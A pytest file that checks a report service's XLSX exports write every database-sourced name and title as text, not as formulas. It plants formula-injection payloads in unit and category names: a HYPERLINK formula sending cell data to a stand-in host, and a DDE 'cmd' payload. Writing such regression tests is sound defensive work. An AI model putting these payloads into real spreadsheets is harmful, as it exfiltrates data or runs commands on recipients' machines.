"""Medium 4 (issue 14): XLSX formula injection. Every text cell of every workbook the service writes is
text, never a formula, whatever the names in the database."""

from __future__ import annotations

import io
from typing import Any

import httpx
from openpyxl import load_workbook
from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncSession

from api.reports import excel
from api.reports.fields import FIGURES

LINK = '=HYPERLINK("http://x.example/?"&B4,"Bấm vào đây")'


def text_cells(data: bytes) -> list[Any]:
    """Every cell of every sheet; fails on a formula cell."""
    wb = load_workbook(io.BytesIO(data))
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                out.append(cell.value)
    return out


async def test_summary_workbook_writes_hostile_village_names_as_text(
    client: httpx.AsyncClient, session: AsyncSession
) -> None:
    """Medium 4: a village named =HYPERLINK(…) is text in summary.xlsx, not a live formula."""
    await session.execute(text("UPDATE units SET name = :p || name"), {"p": LINK})
    await session.flush()
    r = await client.get("/api/v1/reports/33/2023/summary.xlsx")
    assert r.status_code == 200, r.text
    values = text_cells(r.content)
    assert any(isinstance(v, str) and v.startswith(LINK) for v in values)


def test_template_and_summary_never_hold_formulas() -> None:
    """Medium 4: the template and a summary with hostile title, labels and names: text cells only."""
    text_cells(excel.template_workbook())
    figures = {f.name: -1 for f in FIGURES}
    row = excel.SummaryRow(code="=1+1", name="@SUM(A1)", covered=1, expected=2, figures=figures, rates={"r": 0.5})
    values = text_cells(excel.summary_workbook("=cmd|' /C calc'!A0", {"r": "+Tỷ lệ"}, [row]))
    assert {"=cmd|' /C calc'!A0", "+Tỷ lệ", "=1+1", "@SUM(A1)", -1, 0.5} <= set(values)


async def test_template_route_has_no_formula(client: httpx.AsyncClient) -> None:
    r = await client.get("/api/v1/reports/template.xlsx")
    assert r.status_code == 200
    assert "unit_code" in text_cells(r.content)


async def test_award_template_route_has_no_formula(client: httpx.AsyncClient, session: AsyncSession) -> None:
    """The award template lists units' and categories' names from the database: as text, never formulas."""
    await session.execute(text("UPDATE award_categories SET name = :p || name"), {"p": LINK})
    await session.flush()
    r = await client.get("/api/v1/awards/imports/template.xlsx")
    assert r.status_code == 200
    values = text_cells(r.content)
    assert "Mã đơn vị" in values and any(isinstance(v, str) and v.startswith(LINK) for v in values)
